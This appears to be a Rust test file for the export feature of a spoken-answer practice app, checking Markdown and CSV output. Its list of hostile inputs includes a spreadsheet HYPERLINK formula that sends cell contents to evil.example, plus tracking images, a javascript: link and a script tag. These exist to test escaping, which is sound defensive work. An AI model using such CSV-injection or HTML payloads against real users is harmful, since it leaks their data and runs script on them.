//! Answers given out: the text leads to the sound, the table has a value for each column, and nothing
//! that was given out before is touched. Not here: when that is asked for (`flow`).
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

mod shelf;

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::{Arc, LazyLock};

use jiff::civil::Date;
use proptest::prelude::*;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag};
use retake::i18n::answers::Markdown;
use retake::i18n::{AllWords, Words};
use retake::library::answers_csv::Table;
use retake::library::builtin;
use retake::library::open::LibraryError;
use retake::model::attempt::Attempt;
use retake::model::attempt::Link;
use retake::model::export::Answer;
use retake::model::language::Language;
use retake::model::question::FollowUpKind;
use retake::model::rating::give_score;
use retake::model::speech::{Span, Speech};
use shelf::{attempt, shelf};

fn markdown(words: Words<'_>, answers: &[Answer], today: Date) -> String {
    let rubric = builtin::rubric().unwrap();
    let mut text = Markdown::new(words, &rubric, answers.len(), today);
    for answer in answers {
        text.add(answer);
    }
    text.text()
}

fn table(answers: &[Answer]) -> String {
    let mut table = Table::new(answers);
    for answer in answers {
        table.add(answer);
    }
    table.text()
}

fn answer(attempt: Attempt) -> Answer {
    Answer {
        attempt: Arc::new(attempt),
        speech: None,
        story: None,
    }
}

/// A rated answer of which something was heard, and a follow-up of it.
fn two() -> Vec<Answer> {
    let mut first = attempt(1);
    first.question.text.ko = "여러 줄의\n질문, \"따옴표\"".into();
    let ko = first.question.text.ko.clone();
    first.question.text.en = ko;
    first.notes = "다음에는 더 일찍 시작".into();
    first.take.sample_rate_hz = 1_000;
    first.take.frames = 10_000;
    first.ratings.clear();
    let at = first.created.clone();
    give_score(&mut first.ratings, None, "task", 4, at);
    let speech = Speech {
        version: 1,
        sample_rate_hz: 1_000,
        start_frame: 0,
        frames: 10_000,
        noise_dbfs: -60.0,
        threshold_dbfs: -50.0,
        runs: vec![Span::new(1_200, 4_000), Span::new(6_000, 9_000)],
        nuclei: vec![1_500, 7_000],
    };
    let mut below = attempt(2);
    below.ratings.clear();
    below.link = Some(Link {
        first: first.id.clone(),
        depth: 1,
        kind: FollowUpKind::Numbers,
    });
    let told = Answer {
        speech: Some(Arc::new(speech)),
        story: Some("캡스톤".into()),
        ..answer(first)
    };
    vec![told, answer(below)]
}

#[test]
fn the_text_leads_to_the_sound_and_says_what_is_known() {
    let shelf = shelf();
    let answers = two();
    let attempt = &answers[0].attempt;
    shelf.library.create_attempt(attempt).unwrap();
    fs::write(shelf.library.wav_path(attempt), "sound").unwrap();
    let words = AllWords::load().unwrap();
    for (language, said) in [
        (
            Language::Korean,
            [
                "이야기: 캡스톤",
                "점수 4.0",
                "첫마디까지 1.2초",
                "가장 긴 멈춤 2.0초",
            ],
        ),
        (
            Language::English,
            [
                "Story: 캡스톤",
                "Score 4.0",
                "First word after 1.2 s",
                "longest pause 2.0 s",
            ],
        ),
    ] {
        let today = attempt.created.date();
        let text = markdown(words.of(language), &answers, today);
        for said in said {
            assert!(text.contains(said), "{said} in {text}");
        }
        assert!(
            text.contains("\n### 여러 줄의 질문, \"따옴표\"\n"),
            "one line: {text}"
        );
        assert!(text.contains("\n다음에는 더 일찍 시작\n"));
        assert!(text.contains("\n#### "), "a follow-up stands lower");
        let name = format!("export-{}", language.code());
        let files = [("answers.md", text.clone())];
        let folder = shelf.library.export(&name, &files).unwrap();
        let link = text.split("](").nth(1).unwrap().split(')').next().unwrap();
        assert_eq!(fs::read(folder.join(link)).unwrap(), b"sound");
    }
}

#[test]
fn the_table_has_a_value_for_each_column() {
    let table = table(&two());
    let table = table.strip_prefix('\u{feff}').unwrap();
    let rows: Vec<&str> = table.split("\r\n").collect();
    assert_eq!(rows.len(), 4, "a head, two answers and the end: {table}");
    assert!(rows[0].starts_with("id,created,question_id,"));
    assert!(rows[0].ends_with(",score_mean,score_task"));
    let columns = rows[0].split(',').count();
    // The follow-up has nothing to quote.
    assert_eq!(rows[2].split(',').count(), columns);
    assert!(rows[2].contains(",1,numbers,"));
    assert!(rows[1].contains("\"여러 줄의\n질문, \"\"따옴표\"\"\""));
    assert!(
        rows[1].ends_with(",1.2,0.74,10.3,2.0,캡스톤,,4.0,4"),
        "{}",
        rows[1]
    );
}

#[test]
fn what_could_not_be_given_out_leaves_no_empty_folder() {
    let shelf = shelf();
    let fails = |_: &Path| Err(LibraryError::Newer(PathBuf::new()));
    shelf.library.export_into("a", fails).unwrap_err();
    let exports = shelf.library.layout().exports();
    assert_eq!(fs::read_dir(&exports).unwrap().count(), 0);
    let stops = |folder: &Path| {
        fs::write(folder.join("half"), "half").unwrap();
        Err(LibraryError::Newer(PathBuf::new()))
    };
    shelf.library.export_into("a", stops).unwrap_err();
    assert!(exports.join("a/half").exists(), "what is there stays");
}

#[test]
fn what_was_given_out_before_stays() {
    let shelf = shelf();
    let write = |text: &str| {
        let files = [("answers.md", text.to_owned())];
        shelf.library.export("2026-11-21_120000", &files).unwrap()
    };
    let (first, second) = (write("one"), write("two"));
    assert_ne!(first, second);
    assert_eq!(fs::read(first.join("answers.md")).unwrap(), b"one");
    assert_eq!(fs::read(second.join("answers.md")).unwrap(), b"two");
}

/// What the evil pack of a stranger holds, and what people write into notes.
const HOSTILE: [&str; 13] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")",
    "![](http://evil.example/track.png) <img src=http://evil.example/t.png> [click](javascript:alert(1))",
    "쿼리:\n```\nselect 1",
    "~~~~\n# no heading\n\n<script>alert(1)</script>",
    "a line\n====\n- [ ] one\n| a | b |\n|---|---|",
    "``````\n`````` text",
    "[x]: http://evil.example/x\n![x]",
    "\\![](http://evil.example/t.png) \\<img src=x>",
    "-50% 비용을 어떻게 줄였나요?",
    "+82로 시작하는 질문",
    "@mention",
    "&lt;b&gt; trailing hashes ##",
    "^up^ {#id .class}",
];

/// The Markdown of one answer whose question, story and notes are this text.
fn written(text: &str) -> String {
    let mut attempt = attempt(1);
    attempt.question.text.ko = text.into();
    attempt.question.text.en = text.into();
    attempt.notes = text.into();
    let mut answer = answer(attempt);
    answer.story = Some(text.into());
    let today = answer.attempt.created.date();
    markdown(ALL.of(Language::English), &[answer], today)
}

static ALL: LazyLock<AllWords> = LazyLock::new(|| AllWords::load().unwrap());

/// What another program makes of our Markdown: its headings, and whether anything is in it that we did
/// not put there.
fn structure(text: &str) -> (Vec<HeadingLevel>, usize, Vec<String>) {
    let (mut headings, mut links, mut foreign) = (vec![], 0, vec![]);
    for event in Parser::new_ext(text, Options::all()) {
        match event {
            Event::Start(Tag::Heading { level, .. }) => headings.push(level),
            Event::Start(Tag::Link { .. }) => links += 1,
            Event::Start(Tag::Paragraph | Tag::List(None) | Tag::Item | Tag::CodeBlock(_))
            | Event::End(_)
            | Event::Text(_)
            | Event::SoftBreak => {}
            other => foreign.push(format!("{other:?}")),
        }
    }
    (headings, links, foreign)
}

fn stays_text(text: &str) -> Result<(), TestCaseError> {
    let written = written(text);
    let (headings, links, foreign) = structure(&written);
    let levels = [HeadingLevel::H1, HeadingLevel::H2, HeadingLevel::H3];
    prop_assert_eq!(&headings, &levels, "{}", written);
    prop_assert_eq!(links, 1, "only the one to the sound: {}", written);
    prop_assert_eq!(foreign, Vec::<String>::new(), "{}", written);
    Ok(())
}

#[test]
fn texts_of_others_make_no_heading_link_picture_or_html() {
    for text in HOSTILE {
        stays_text(text).unwrap();
    }
    let written = written(HOSTILE[2]);
    assert!(
        written.ends_with("\n````text\n쿼리:\n```\nselect 1\n````\n"),
        "{written}"
    );
}

/// The fields of a table, read as RFC 4180 says.
fn fields(table: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut letters = table.strip_prefix('\u{feff}').unwrap().chars().peekable();
    let mut quoted = false;
    while let Some(letter) = letters.next() {
        let row = rows.last_mut().unwrap();
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\r' if !quoted => {
                assert_eq!(letters.next(), Some('\n'));
                rows.push(vec![String::new()]);
            }
            letter => row.last_mut().unwrap().push(letter),
        }
    }
    assert_eq!(
        rows.pop().unwrap(),
        [""],
        "the table ends with its last row"
    );
    rows
}

/// Whether a spreadsheet might calculate a cell: looked at more strictly than it is written.
fn calculated(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '"');
    shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r', '\n'])
}

fn comes_back(text: &str) -> Result<(), TestCaseError> {
    let mut attempt = attempt(1);
    attempt.question.text.en = text.into();
    attempt.question.id = text.into();
    let mut answer = answer(attempt);
    answer.story = Some(text.into());
    let rows = fields(&table(&[answer]));
    prop_assert_eq!(rows[0].len(), rows[1].len());
    for (name, cell) in rows[0].iter().zip(&rows[1]) {
        prop_assert!(!calculated(cell), "{}: {}", name, cell);
        if ["question_id", "question_en", "story"].contains(&name.as_str()) {
            let kept = cell == text || cell.strip_prefix('\'') == Some(text);
            prop_assert!(kept, "{}: {}", name, cell);
        }
    }
    Ok(())
}

#[test]
fn no_cell_is_a_formula() {
    let also = ["=1+1", " \"=1", "'=1", "\t1", "\u{200b}@x", "＝1", "\r\n-1"];
    for text in HOSTILE.iter().chain(&also) {
        comes_back(text).unwrap();
    }
    let mut first = attempt(1);
    first.question.text.en = "=1+1".into();
    first.question.text.ko = "7월에 줄인 비용은?".into();
    let rows = fields(&table(&[answer(first)]));
    let cell = |name: &str| &rows[1][rows[0].iter().position(|it| it == name).unwrap()];
    assert_eq!(cell("question_en"), "'=1+1");
    assert_eq!(cell("question_ko"), "7월에 줄인 비용은?");
}

proptest! {
    #[test]
    fn any_text_stays_text(text in "([`~#<>!\\[\\]()*_=|&:\\\\\r\n\t -]|[a-z가-힣]|\\PC){0,40}") {
        stays_text(&text)?;
        comes_back(&text)?;
    }
}
